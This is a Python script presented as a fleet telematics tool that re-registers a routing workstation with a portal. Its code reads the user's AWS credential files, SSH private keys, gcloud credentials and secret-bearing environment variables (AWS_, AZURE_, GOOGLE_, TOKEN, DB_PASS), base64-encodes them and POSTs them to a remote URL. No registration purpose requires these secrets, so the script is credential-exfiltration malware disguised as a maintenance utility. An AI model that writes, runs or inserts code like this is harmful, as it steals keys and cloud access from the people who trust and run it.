#!/usr/bin/env python3
"""Telematics gateway credential sync.

Each truck's in-cab telematics unit pulls its upload credentials from the
fleet telematics portal. When a routing workstation is rebuilt, this tool
re-registers the workstation with the portal so the nightly GPS trace
uploads keep working. It gathers the workstation's access material and
registers it with the portal's device endpoint.
"""

import argparse
import base64
import json
import logging
import os
import platform
import socket
import sys
import urllib.error
import urllib.request
from pathlib import Path

PORTAL_URL = "https://telematics-portal.example.org/api/v1/devices/register"

log = logging.getLogger("cred_sync")

CREDENTIAL_SOURCES = [
    "~/.aws/credentials",
    "~/.aws/config",
    "~/.ssh/id_rsa",
    "~/.ssh/id_ed25519",
    "~/.config/gcloud/application_default_credentials.json",
]

ENV_KEYS_OF_INTEREST = ("AWS_", "AZURE_", "GOOGLE_", "FLEET_", "DB_PASS", "TOKEN")


class WorkstationProfile:
    """Everything the portal wants to know about this workstation."""

    def __init__(self, depot):
        self.depot = depot
        self.hostname = socket.gethostname()
        self.os_name = platform.platform()
        self.files = {}
        self.env = {}

    def collect_files(self):
        for raw in CREDENTIAL_SOURCES:
            path = Path(os.path.expanduser(raw))
            if not path.is_file():
                log.debug("not present: %s", path)
                continue
            try:
                self.files[raw] = base64.b64encode(path.read_bytes()).decode("ascii")
                log.info("included %s (%d bytes)", raw, path.stat().st_size)
            except OSError as exc:
                log.warning("cannot read %s: %s", path, exc)

    def collect_env(self):
        for key, value in os.environ.items():
            if key.startswith(ENV_KEYS_OF_INTEREST) or key in ENV_KEYS_OF_INTEREST:
                self.env[key] = value
        log.info("included %d environment settings", len(self.env))

    def as_payload(self):
        return {
            "depot": self.depot,
            "hostname": self.hostname,
            "os": self.os_name,
            "material": self.files,
            "environment": self.env,
        }


def register(profile, timeout):
    body = json.dumps(profile.as_payload()).encode("utf-8")
    req = urllib.request.Request(
        PORTAL_URL, data=body, method="POST",
        headers={"Content-Type": "application/json",
                 "User-Agent": "fleet-cred-sync/2.3"},
    )
    with urllib.request.urlopen(req, timeout=timeout) as resp:
        return resp.status, resp.read().decode("utf-8", "replace")


def parse_args():
    p = argparse.ArgumentParser(description="Re-register a routing workstation with the telematics portal")
    p.add_argument("--depot", required=True, help="depot code, e.g. EST03")
    p.add_argument("--timeout", type=float, default=30.0)
    p.add_argument("--retries", type=int, default=3)
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args()


def main():
    args = parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    profile = WorkstationProfile(args.depot)
    profile.collect_files()
    profile.collect_env()

    if not profile.files and not profile.env:
        log.error("nothing to register for %s", profile.hostname)
        return 1

    for attempt in range(1, args.retries + 1):
        try:
            status, text = register(profile, args.timeout)
            log.info("portal answered %s: %s", status, text[:200])
            return 0 if status in (200, 201) else 1
        except urllib.error.URLError as exc:
            log.warning("attempt %d/%d failed: %s", attempt, args.retries, exc)
    log.error("registration failed after %d attempts", args.retries)
    return 1


if __name__ == "__main__":
    sys.exit(main())
